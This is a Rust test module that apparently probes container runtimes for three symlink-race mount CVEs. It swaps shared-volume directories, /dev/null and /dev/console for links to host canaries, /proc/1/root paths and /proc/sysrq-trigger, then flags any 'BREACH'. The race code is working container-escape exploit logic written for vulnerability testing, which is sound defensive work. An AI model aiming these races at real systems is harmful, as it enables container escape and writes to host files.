//! Places of mounts, in a volume that a neighbour shares and swaps for links while
//! the runtime looks at them: CVE-2021-30465 (targets, and through them sources),
//! CVE-2025-31133 (`/dev/null`, which masks are made of), CVE-2025-52565
//! (`/dev/console`).

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use nix::mount::{MsFlags, mount};
use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use serde_json::{Value, json};

use crate::host::{Host, KNOB};
use crate::race::Neighbour;
use crate::round::{Attack, Outcome, once};
use crate::support::Case;

pub(crate) fn bind(from: &Path, to: &str) -> Value {
    json!({"destination": to, "type": "bind", "source": from, "options": ["rbind", "rw"]})
}

/// A device with the numbers of `/dev/null`.
pub(crate) fn null(at: &Path) {
    let mode = Mode::from_bits_truncate(0o666);
    mknod(at, SFlag::S_IFCHR, mode, makedev(1, 3)).unwrap();
}

/// Adds a mount in front of those that the spec has, or behind them.
pub(crate) fn mounts(case: &mut Case) -> &mut Vec<Value> {
    case.spec["mounts"].as_array_mut().unwrap()
}

/// The ways out that a link can name.
fn ways_out(to: &Path) -> Vec<PathBuf> {
    let plain = to.strip_prefix("/").unwrap();
    vec![
        to.to_owned(),
        Path::new("../../../../../../../../../../..").join(plain),
        Path::new("/proc/self/root").join(plain),
        Path::new("/proc/1/root").join(plain),
        Path::new("/../../../..").join(plain),
    ]
}

/// Links out in turn, all of them swapped under the same name.
struct Links {
    at: PathBuf,
    ways: Vec<PathBuf>,
}

impl Links {
    fn new(at: &Path, ways: Vec<PathBuf>) -> Self {
        Self {
            at: at.to_owned(),
            ways,
        }
    }

    /// Whichever of the two names the link has at the moment.
    fn turn(&self, other: &Path, n: u32) {
        let way = &self.ways[n as usize % self.ways.len()];
        let link = [&self.at, other]
            .into_iter()
            .find(|path| fs::symlink_metadata(path).is_ok_and(|meta| meta.is_symlink()))
            .unwrap();
        let aside = self.at.with_extension("aside");
        symlink(way, &aside).unwrap();
        fs::rename(aside, link).unwrap();
    }
}

/// CVE-2021-30465. A volume lands in a directory that is a link at other times.
/// One link leads to where the next mount's source is, so that a mount there makes
/// the next source the attacker's, who has a link to the canaries in it.
pub(crate) struct Target {
    case: Case,
    neighbour: Neighbour,
    links: Links,
    dir: PathBuf,
    volume: PathBuf,
    pods: PathBuf,
}

impl Target {
    pub(crate) fn new(host: &mut Host) -> Self {
        let script = "[ -e /vol/a/src/theirs ] || [ -e /vol/b/src/theirs ] && echo at the directory; \
            ls /final; cat /final/secret /vol/*/secret /vol/*/src/secret /vol/*/src/sub/secret; \
            for f in /final /vol/a /vol/b; do echo x >> $f/0; done; true";
        let case = Case::new(&["sh", "-c", script]);
        let volume = case.dir.join("volume");
        let theirs = case.dir.join("theirs");
        let pods = case.dir.join("pods");
        let dir = volume.join("a");
        for made in [&dir, &theirs, &pods.join("src/sub")] {
            fs::create_dir_all(made).unwrap();
        }
        fs::write(theirs.join("theirs"), "").unwrap();
        fs::write(pods.join("src/sub/legit"), "").unwrap();
        symlink(&host.canary, theirs.join("sub")).unwrap();
        let link = volume.join("b");
        symlink(&host.canary, &link).unwrap();
        let mut ways = ways_out(&host.canary);
        ways.extend(ways_out(&pods));
        let mut target = Self {
            links: Links::new(&link, ways),
            neighbour: Neighbour::swapping(&dir, &link),
            case,
            dir,
            volume,
            pods,
        };
        let file = target.pods.join("src/sub/legit");
        let all = [
            bind(&target.volume, "/vol"),
            bind(&theirs, "/vol/a/src"),
            bind(&target.pods.join("src/sub"), "/final"),
            bind(&file, "/vol/a/src/file"),
            json!({"destination": "/vol/a/tmp/deep", "type": "tmpfs", "source": "tmpfs"}),
        ];
        mounts(&mut target.case).extend(all);
        target
    }
}

impl Attack for Target {
    fn lay_out(&mut self, n: u32) {
        self.links.turn(&self.dir, n);
    }

    fn attempt(&mut self, _n: u32) -> Outcome {
        let outcome = once(&mut self.case);
        let places = fs::read_dir(&self.pods).unwrap().count();
        let inside = fs::read_dir(self.pods.join("src")).unwrap().count();
        if (places, inside) != (1, 1) {
            return Outcome::Ran(format!(
                "BREACH: {places}, {inside} beside another's volume"
            ));
        }
        outcome
    }

    /// A runtime that looks first and makes the mountpoint then.
    fn control(&mut self, host: &Host) -> Option<Outcome> {
        self.neighbour.rest(false);
        for n in 0..200_000 {
            let is_dir = fs::symlink_metadata(&self.dir).is_ok_and(|meta| meta.is_dir());
            if is_dir && fs::create_dir(self.dir.join("src")).is_ok() {
                if host.canary.join("src").exists() {
                    eprintln!("a runtime that looks first loses after {n} tries");
                    self.neighbour.rest(true);
                    return None;
                }
                // Wherever the directory is by now.
                for name in ["a/src", "b/src"] {
                    fs::remove_dir(self.volume.join(name)).ok();
                }
            }
        }
        None
    }

    fn neighbour(&self) -> Option<&Neighbour> {
        Some(&self.neighbour)
    }

    fn must_see(&self) -> &'static [&'static str] {
        &["legit"]
    }
}

/// CVE-2025-31133. `/dev` is a shared volume and its `null` a link at times: to a
/// knob, or to the canaries. What is masked must stay empty and take no writes.
pub(crate) struct Null {
    case: Case,
    neighbour: Neighbour,
    links: Links,
    null: PathBuf,
}

impl Null {
    pub(crate) fn new(host: &mut Host) -> Self {
        let script = "for f in /proc/version /proc/cpuinfo /vol/masked; do \
            echo 77 > $f; [ -s $f ] && [ -n \"$(cat $f)\" ] && echo BREACH $f \"$(cat $f)\"; done; \
            [ -c /proc/version ] && echo masked; true";
        let mut case = Case::new(&["sh", "-c", script]);
        let dev = case.dir.join("dev");
        let volume = case.dir.join("volume");
        for made in [&dev, &volume] {
            fs::create_dir_all(made).unwrap();
        }
        for name in ["pts", "shm", "mqueue"] {
            fs::create_dir(dev.join(name)).unwrap();
        }
        fs::write(volume.join("masked"), "masked").unwrap();
        let (real, link) = (dev.join("null"), dev.join("null.link"));
        null(&real);
        symlink(KNOB, &link).unwrap();
        let list = mounts(&mut case);
        let at = list.iter().position(|one| one["destination"] == "/dev");
        list[at.unwrap()] = bind(&dev, "/dev");
        list.push(bind(&volume, "/vol"));
        let masked = json!(["/proc/version", "/proc/cpuinfo", "/vol/masked"]);
        case.set("/linux/maskedPaths", masked);
        let mut ways = vec![
            PathBuf::from(KNOB),
            PathBuf::from("/proc/self/root/proc/sysrq-trigger"),
        ];
        ways.extend(ways_out(Path::new(KNOB)));
        ways.extend(ways_out(&host.canary.join("0")));
        ways.push(PathBuf::from("gone"));
        let neighbour = Neighbour::swapping(&real, &link);
        Self {
            links: Links::new(&link, ways),
            neighbour,
            case,
            null: real,
        }
    }
}

impl Attack for Null {
    fn lay_out(&mut self, n: u32) {
        self.links.turn(&self.null, n);
    }

    fn attempt(&mut self, _n: u32) -> Outcome {
        once(&mut self.case)
    }

    /// What a container could do whose mask is that knob.
    fn control(&mut self, _host: &Host) -> Option<Outcome> {
        fs::write(KNOB, "77").unwrap();
        None
    }

    fn neighbour(&self) -> Option<&Neighbour> {
        Some(&self.neighbour)
    }

    fn must_see(&self) -> &'static [&'static str] {
        &["masked"]
    }
}

/// CVE-2025-52565. A terminal's `/dev/console` is made in a shared volume, where
/// its name is a link at times, and so is the `pts` beside it.
pub(crate) struct Console {
    case: Case,
    neighbours: [Neighbour; 2],
    links: [(Links, PathBuf); 2],
}

impl Console {
    pub(crate) fn new(host: &mut Host) -> Self {
        let script = "stty -icanon min 0 time 0; for f in /dev/console /dev/pts/0 /dev/ptmx; do \
            [ -c $f ] || echo no device at $f; done; \
            for f in /dev/console /dev/pts/0; do [ -c $f ] || echo 77 >> $f; \
            [ -c $f ] || cat $f; done; tty";
        let mut case = Case::new(&["sh", "-c", script]);
        case.terminal = true;
        case.set("/process/terminal", json!(true));
        let dev = case.dir.join("dev");
        for name in ["pts", "shm", "mqueue"] {
            fs::create_dir_all(dev.join(name)).unwrap();
        }
        null(&dev.join("null"));
        let list = mounts(&mut case);
        let at = list.iter().position(|one| one["destination"] == "/dev");
        list[at.unwrap()] = bind(&dev, "/dev");
        let console = dev.join("console");
        fs::write(&console, "").unwrap();
        let mut to_file = ways_out(&host.canary.join("0"));
        to_file.extend(ways_out(Path::new(KNOB)));
        let swapped = |name: PathBuf, ways: Vec<PathBuf>| {
            let link = name.with_extension("link");
            symlink(&ways[0], &link).unwrap();
            let neighbour = Neighbour::swapping(&name, &link);
            (neighbour, (Links::new(&link, ways), name))
        };
        let (first, console) = swapped(console, to_file);
        let (second, pts) = swapped(dev.join("pts"), ways_out(&host.canary));
        Self {
            case,
            neighbours: [first, second],
            links: [console, pts],
        }
    }
}

impl Attack for Console {
    fn lay_out(&mut self, n: u32) {
        for (links, name) in &self.links {
            links.turn(name, n);
        }
    }

    fn attempt(&mut self, n: u32) -> Outcome {
        // The second races in every other attempt: with both, few get far.
        self.neighbours[1].rest(n.is_multiple_of(2));
        let outcome = once(&mut self.case);
        self.neighbours[1].rest(true);
        outcome
    }

    /// A console that lands on a canary.
    fn control(&mut self, host: &Host) -> Option<Outcome> {
        let flags = MsFlags::MS_BIND;
        let at = host.canary.join("0");
        mount(Some("/dev/null"), &at, None::<&str>, flags, None::<&str>).unwrap();
        let seen = host.changes();
        nix::mount::umount(&at).unwrap();
        assert!(
            seen.iter().any(|line| line.starts_with("mount ")),
            "{seen:?}"
        );
        fs::write(at, "77").unwrap();
        None
    }

    fn neighbour(&self) -> Option<&Neighbour> {
        Some(&self.neighbours[0])
    }

    fn must_see(&self) -> &'static [&'static str] {
        &["/dev/pts/"]
    }
}
